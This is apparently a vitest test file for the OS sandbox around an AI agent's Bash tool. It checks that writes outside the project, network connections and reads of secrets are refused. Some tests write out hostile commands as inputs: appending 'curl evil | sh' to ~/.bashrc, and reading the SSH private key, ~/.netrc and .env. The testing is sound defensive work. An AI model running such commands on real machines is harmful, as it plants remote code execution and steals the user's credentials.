import { existsSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import type { ProcessRunner } from "../../src/process/index.js";
import { createToolset, Workspace, type Tool, type ToolResult } from "../../src/tools/index.js";
import { DEFAULT_SANDBOX } from "../../src/sandbox/sandbox-config.js";
import { describeWithSandbox } from "../support/needs-sandbox.js";
import { createPersonMachine, hostServer, PLANTED_KEY, RC_LINE, type PersonMachine } from "../sandbox/person-machine.js";
import { runnerForTest } from "../support/process-runners.js";

let machine: PersonMachine;
let bash: Tool;

function bashTool(runner: ProcessRunner, workspace: Workspace): Tool {
  return createToolset({ workspace, capabilities: { mode: "list", capabilities: ["bash"], raw: ["Bash"] }, runner, env: machine.env }).find((tool) => tool.name === "Bash")!;
}

async function run(command: string, tool = bash): Promise<ToolResult> {
  return tool.execute(tool.inputSchema.parse({ command }), { agent: "backend", signal: new AbortController().signal });
}

beforeEach(async () => {
  machine = await createPersonMachine();
  const workspace = await Workspace.create({ projectDir: machine.project, protectedDirs: [machine.stateDir] });
  const runner = runnerForTest({ sandbox: { ...DEFAULT_SANDBOX, mode: "required", readOnly: [machine.stateDir], denyRead: [join(machine.project, ".env")] } });
  bash = bashTool(runner, workspace);
});

afterEach(async () => {
  await machine.remove();
});

describeWithSandbox("the OS sandbox, through the Bash tool: refused", () => {
  it("refuses a write outside the project with the OS error and a line saying how to allow it", async () => {
    const result = await run(`echo escaped > ${machine.outside}/new.txt`);
    expect(result.isError).toBe(true);
    expect(result.content).toContain("Read-only file system");
    expect(result.content).toContain('[greenlight sandbox: this may be the sandbox refusing: writes go only to the project folder');
    expect(result.content).toContain('"filesystem": {"allowWrite"');
    expect(existsSync(join(machine.outside, "new.txt"))).toBe(false);
  });

  it("refuses a write into $HOME (a poisoned shell start-up file)", async () => {
    const result = await run('echo "curl evil | sh" >> "$HOME/.bashrc"');
    expect(result.isError).toBe(true);
    expect(result.content).toContain("Read-only file system");
    expect(readFileSync(join(machine.home, ".bashrc"), "utf8")).toBe(`${RC_LINE}\n`);
  });

  it("refuses reads of a planted key, of ~/.netrc and of a path greenlight.json denies", async () => {
    await machine.write(".env", "DB_PASSWORD=planted-env\n");
    const result = await run('cat "$HOME/.ssh/id_ed25519"; ls "$HOME/.ssh"; cat "$HOME/.netrc"; cat .env; echo done');
    expect(result.content).not.toContain(PLANTED_KEY);
    expect(result.content).not.toContain("planted-netrc");
    expect(result.content).not.toContain("planted-env");
    expect(result.content.match(/Permission denied/g)?.length).toBe(4);
    expect(result.content).toContain("secrets (~/.ssh, ~/.aws, tokens and the paths in greenlight.json's filesystem.denyRead) are hidden");
  });

  it("refuses a connection to a TCP server outside the sandbox", async () => {
    const server = await hostServer("outside server");
    try {
      const result = await run(`node -e "require('net').connect(${server.port}, '127.0.0.1').on('connect', () => console.log('CONNECTED')).on('error', (e) => { console.log(e.code); process.exit(1) })"`);
      expect(result.isError).toBe(true);
      expect(result.content).toContain("ECONNREFUSED");
      expect(result.content).not.toContain("CONNECTED");
      expect(result.content).toContain('there is no network but loopback (no host is allowed); a person can allow a host with "network": {"allow": ["HOST"]}');
      expect(server.connections()).toBe(0);
    } finally {
      await server.close();
    }
  });

  it("keeps .git and the state folder read-only, while git status and diff still work", async () => {
    const result = await run("touch .git/hooks/pre-commit; echo x >> .greenlight/state.json; echo changed >> src/app.js; git status --short; git diff --stat");
    expect(result.content.match(/Read-only file system/g)?.length).toBe(2);
    expect(result.content).toContain(" M src/app.js");
    expect(result.content).toContain("1 file changed");
    expect(existsSync(join(machine.project, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(machine.stateDir, "state.json"), "utf8")).toBe("{}\n");
  });

  it("gives the command a /tmp of its own: the host's temp files stay unseen", async () => {
    const hostFile = join(tmpdir(), `greenlight-host-tmp-${process.pid}`);
    await writeFile(hostFile, "host temp\n");
    try {
      const result = await run(`cat ${hostFile}; echo "TMPDIR=$TMPDIR"`);
      expect(result.content).toContain("No such file or directory");
      expect(result.content).toContain("TMPDIR=/tmp");
    } finally {
      await rm(hostFile, { force: true });
    }
  });
});

describeWithSandbox("the OS sandbox, through the Bash tool: allowed", () => {
  it("writes inside the project and a temp file, runs node", async () => {
    const result = await run('echo made > src/made.txt && f=$(mktemp) && echo temp > "$f" && cat "$f" && node -e "console.log(6 * 7)"');
    expect(result.isError).toBe(false);
    expect(result.content).toMatch(/^temp\n42\n/);
    expect(readFileSync(join(machine.project, "src/made.txt"), "utf8")).toBe("made\n");
  });

  it("reads a node_modules linked from the host's temp folder, which the private /tmp otherwise hides", async () => {
    const installed = await mkdtemp(join(tmpdir(), "greenlight-linked-deps-"));
    try {
      await mkdir(join(installed, "left-pad"), { recursive: true });
      await writeFile(join(installed, "left-pad", "index.js"), "module.exports = 'linked ok';\n");
      await symlink(installed, join(machine.project, "node_modules"));
      await writeFile(join(tmpdir(), `${installed.split("/").pop()}-beside`), "host temp secret\n");
      const result = await run(`node -e "console.log(require('left-pad'))"; cat ${installed}-beside`);
      expect(result.content).toMatch(/^linked ok\n/);
      expect(result.content).toContain("No such file or directory");
      expect(result.content).not.toContain("host temp secret");
    } finally {
      await rm(installed, { recursive: true, force: true });
      await rm(`${installed}-beside`, { force: true });
    }
  });

  it("reads a node_modules linked from elsewhere in /tmp when TMPDIR names another folder (a checkout under /tmp, a test run's own TMPDIR)", async () => {
    const installed = await mkdtemp("/tmp/greenlight-linked-deps-");
    const ownTmp = await mkdtemp(join(tmpdir(), "greenlight-own-tmpdir-"));
    const before = process.env.TMPDIR;
    try {
      await mkdir(join(installed, "left-pad"), { recursive: true });
      await writeFile(join(installed, "left-pad", "index.js"), "module.exports = 'linked ok';\n");
      await symlink(installed, join(machine.project, "node_modules"));
      process.env.TMPDIR = ownTmp;
      const result = await run(`node -e "console.log(require('left-pad'))"`);
      expect(result.content).toMatch(/^linked ok\n/);
    } finally {
      if (before === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = before;
      await rm(installed, { recursive: true, force: true });
      await rm(ownTmp, { recursive: true, force: true });
    }
  });

  it("reaches a server the command itself starts on loopback", async () => {
    const result = await run(`node -e "const s = require('http').createServer((q, r) => r.end('inside ok')).listen(0, '127.0.0.1', () => require('http').get('http://127.0.0.1:' + s.address().port, (r) => r.on('data', (d) => { console.log(String(d)); s.close() })))"`);
    expect(result.content).toMatch(/^inside ok/);
  });
});

describeWithSandbox("Bash is bash", () => {
  it("runs bash syntax, without profile or rc files", async () => {
    const result = await run('[[ 2 -gt 1 ]] && echo double-brackets; arr=(a b c); echo "${#arr[@]} ${arr[1]}"; echo {1..3}; set -o pipefail; false | true; echo "pipefail $?"');
    expect(result.content).toBe("double-brackets\n3 b\n1 2 3\npipefail 1\n\n[exit code 0]");
    expect(result.content).not.toContain("RC-FILE-WAS-READ");
  });

  it("keeps the working folder between calls of one session, never outside the project", async () => {
    await run("mkdir -p sub/deeper && cd sub/deeper");
    expect((await run("pwd")).content).toBe(`${join(machine.project, "sub/deeper")}\n\n[exit code 0]`);
    await run("cd ..");
    expect((await run("pwd")).content).toBe(`${join(machine.project, "sub")}\n\n[exit code 0]`);
    const left = await run("cd / && pwd");
    expect(left.content).toContain(`the shell ended in /, outside the project; the next command starts in ${machine.project}`);
    expect((await run("pwd")).content).toBe(`${machine.project}\n\n[exit code 0]`);
    await run("cd sub/deeper");
    await run("cd .. && rmdir deeper");
    expect((await run("pwd")).content).toBe(`${join(machine.project, "sub")}\n\n[exit code 0]`);
  });

  it("starts a new session in the project folder", async () => {
    await run("mkdir -p sub && cd sub");
    const workspace = await Workspace.create({ projectDir: machine.project });
    const other = bashTool(runnerForTest(), workspace);
    expect((await run("pwd", other)).content).toBe(`${machine.project}\n\n[exit code 0]`);
  });
});

describeWithSandbox("the OS sandbox with hosts allowed", () => {
  let allowed: Awaited<ReturnType<typeof hostServer>>;
  let other: Awaited<ReturnType<typeof hostServer>>;
  let networked: Tool;

  beforeAll(async () => {
    allowed = await hostServer("allowed host");
    other = await hostServer("other host");
  });
  afterAll(async () => {
    await allowed.close();
    await other.close();
  });
  beforeEach(async () => {
    const workspace = await Workspace.create({ projectDir: machine.project });
    networked = bashTool(runnerForTest({ sandbox: { ...DEFAULT_SANDBOX, mode: "required", allowHosts: [`127.0.0.1:${allowed.port}`] } }), workspace);
  });

  it("reaches an allowed host through the proxy in HTTP_PROXY, plain and tunnelled", async () => {
    const plain = await run(`curl -sS --noproxy "" -x "$HTTP_PROXY" http://127.0.0.1:${allowed.port}/`, networked);
    expect(plain.content).toBe("allowed host\n\n[exit code 0]");
    const tunnelled = await run(`curl -sS --noproxy "" -p -x "$HTTPS_PROXY" http://127.0.0.1:${allowed.port}/`, networked);
    expect(tunnelled.content).toBe("allowed host\n\n[exit code 0]");
  });

  it("refuses a host not on the list, and any direct connection", async () => {
    const refused = await run(`curl -sS --noproxy "" -p -x "$HTTPS_PROXY" http://127.0.0.1:${other.port}/; curl -sS --noproxy "" -x "$HTTP_PROXY" http://127.0.0.1:${other.port}/; curl -sS --noproxy '*' http://127.0.0.1:${allowed.port}/`, networked);
    expect(refused.content).toContain("CONNECT tunnel failed, response 403");
    expect(refused.content).toContain(`greenlight sandbox: host not in network.allow: 127.0.0.1:${other.port}`);
    expect(refused.content).toContain("Couldn't connect to server");
    expect(refused.content).toContain(`allowed through the proxy in HTTPS_PROXY/HTTP_PROXY: 127.0.0.1:${allowed.port}`);
    expect(other.connections()).toBe(0);
  });
});
